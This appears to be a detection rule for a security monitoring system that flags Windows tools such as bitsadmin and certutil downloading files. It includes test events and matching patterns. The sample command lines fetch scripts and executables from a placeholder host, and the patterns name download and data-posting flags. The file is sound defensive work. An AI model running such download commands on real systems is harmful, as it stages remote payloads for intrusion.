local job = sample {
  ["host.name"] = "ws-05", ["user.name"] = [[ACME\ana]],
  ["process.executable"] = [[C:\Windows\System32\bitsadmin.exe]],
  ["process.command_line"] = [[bitsadmin.exe /transfer job /priority foreground https://x.example/a.ps1 C:\Temp\a.ps1]],
}

return rule {
  id       = "windows.bits_download",
  title    = "A file is fetched by a tool of Windows",
  version  = 1,
  severity = "medium",
  type     = "anomaly_detection",
  mitre    = { "T1105", "T1197" },
  match    = {
    any {
      {
        ["process.executable|endswith"] = [[\bitsadmin.exe]],
        ["process.command_line|contains"] = { "/transfer", "/addfile", "/setnotifycmdline" },
      },
      {
        ["process.executable|endswith"] = [[\certutil.exe]],
        ["process.command_line|contains"] = { "urlcache", "verifyctl" },
      },
      {
        ["process.executable|endswith"] = { [[\curl.exe]], [[\desktopimgdownldr.exe]], [[\certreq.exe]] },
        ["process.command_line|contains"] = { "lockscreenurl", "-Post ", "--data-binary" },
      },
    },
    ["process.command_line|re|i"] = [[https?://]],
  },
  dedup    = { by = { "host.name", "process.executable" }, window = "1h" },
  context  = { "host.name", "user.name", "process.executable", "process.command_line", "process.parent.executable" },

  severity_of = function(event)
    if event:is("process.command_line|re|i", [[\.(ps1|exe|dll|hta|vbs|js|bat|sct)\b]]) then return "high" end
  end,

  false_positives = { "Installers that fetch their parts with BITS" },
  runbook  = "Look at the address and the file. Look for what ran it afterwards.",

  tests = {
    { "a script by BITS", events = at({ 0 }, job), expect = { threats = 1, severity = "high" } },
    { "a document by BITS is less",
      events = at({ 0 }, job:with { ["process.command_line"] = "bitsadmin /transfer j https://x.example/a.md a" }),
      expect = { threats = 1, severity = "medium" } },
    { "certutil's cache",
      events = at({ 0 }, job:with {
        ["process.executable"] = [[C:\Windows\System32\certutil.exe]],
        ["process.command_line"] = "certutil -urlcache -split -f http://x.example/a.exe a.exe",
      }),
      expect = { threats = 1 } },
    { "listing the jobs does not",
      events = at({ 0 }, job:with { ["process.command_line"] = "bitsadmin /list /allusers" }),
      expect = { threats = 0 } },
    { "certutil looking at a certificate does not",
      events = at({ 0 }, job:with {
        ["process.executable"] = [[C:\Windows\System32\certutil.exe]],
        ["process.command_line"] = "certutil -dump https://x.example/a.cer",
      }),
      expect = { threats = 0 } },
  },
}
